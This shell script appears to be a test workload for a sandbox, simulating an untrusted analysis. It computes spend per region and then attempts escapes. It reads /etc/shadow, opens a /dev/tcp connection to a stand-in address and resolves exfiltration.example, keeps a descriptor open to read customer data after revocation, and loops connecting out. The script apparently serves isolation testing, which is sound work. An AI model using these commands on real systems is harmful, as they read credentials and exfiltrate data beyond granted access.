# An analysis that nobody trusts. First it does what was agreed: the spend per region.
# Then it tries what was not.

echo "analysis: summing up $(($(wc -l < /data/customers.csv) - 1)) customers"
awk -F, 'NR > 1 { n[$3]++; sum[$3] += $4 } END { for (r in n) print r "," n[r] "," sum[r] }' \
    /data/customers.csv | sort > /out/spend-by-region.csv || exit 1
echo "analysis: wrote /out/spend-by-region.csv"

# A descriptor that is open already outlives every check that is made at open.
exec 3< /data/customers.csv

echo "analysis: tries to read a file that it was not given"
cat /etc/shadow

connect_out() {
    if command -v bash > /dev/null; then
        bash -c 'exec 4<> /dev/tcp/192.0.2.1/443' 2> /dev/null
    else
        getent hosts exfiltration.example > /dev/null
    fi
}
echo "analysis: tries to connect out"
connect_out || echo "analysis: no connection"

# Reads on as long as it can, through the open descriptor.
while dd bs=65536 count=1 <&3 > /tmp/loot 2> /dev/null && [ -s /tmp/loot ]; do
    sleep 0.05
done
echo "analysis: the data is gone, also from the open descriptor"

echo "analysis: keeps trying"
while :; do
    connect_out
done
